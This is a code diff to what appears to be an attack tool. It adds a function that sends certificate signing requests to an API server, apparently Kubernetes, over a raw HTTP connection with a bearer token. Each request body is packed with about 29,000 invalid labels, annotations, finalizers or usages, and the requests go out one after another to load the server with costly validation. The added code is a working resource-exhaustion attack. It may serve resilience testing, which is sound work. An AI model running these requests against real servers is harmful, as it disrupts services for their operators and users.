@@ -4,6 +4,7 @@ import { FRAME, frame, literal, openHeadersFrame, requestFrame, resetFrame } fro
 import { scaled, type Target } from "./attack.ts";
 import { bearer, CSRS } from "./asking.ts";
 import { type AttackConnection, open, type OpenOptions } from "./connection.ts";
+import { createNodeRequest } from "./node_request.ts";
 import { pause, repeat, until, waitUntil } from "./waiting.ts";
 
 /** Connections at a time, at scale 1. */
@@ -77,6 +78,31 @@ export async function requests(connection: AttackConnection, target: Target, ove
     await waitUntil(isRoom, over);
     const streams = Array.from({ length: BATCH }, (_, index) => (turn * BATCH + index) * 2 + 1);
     return Buffer.concat(streams.map((stream) => requestFrame(stream, "GET", "/version", headers)));
+  });
+}
+
+/** The number of elements of a costly body: nearly as many as the server reads. */
+const ELEMENTS = 29_000;
+
+/**
+ * Sends certificate signing requests with as many faults as fit into a body, each when the one before is answered: with
+ * bad labels, annotations, finalizers and usages by turns.
+ */
+export async function costlyBodies(connection: AttackConnection, target: Target, over: AbortSignal): Promise<void> {
+  const { metadata = {}, spec, ...csr } = await createNodeRequest("costly");
+  const texts = Array.from({ length: ELEMENTS }, (_, index) => `!${index}`);
+  const map = Object.fromEntries(texts.map((text) => [text, ""]));
+  const bodies = [
+    { ...csr, metadata: { ...metadata, labels: map }, spec },
+    { ...csr, metadata: { ...metadata, annotations: map }, spec },
+    { ...csr, metadata: { ...metadata, finalizers: texts }, spec },
+    { ...csr, metadata, spec: { ...spec, usages: texts } },
+  ].map((body) => JSON.stringify(body));
+  await writeOn(connection, target, over, 1, async (turn) => {
+    await waitUntil(() => connection.answers() >= turn || connection.isClosed(), over);
+    const body = bodies[turn % bodies.length]!;
+    const head = `POST ${CSRS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${target.token}\r\n`;
+    return Buffer.from(`${head}content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`);
   });
 }
 
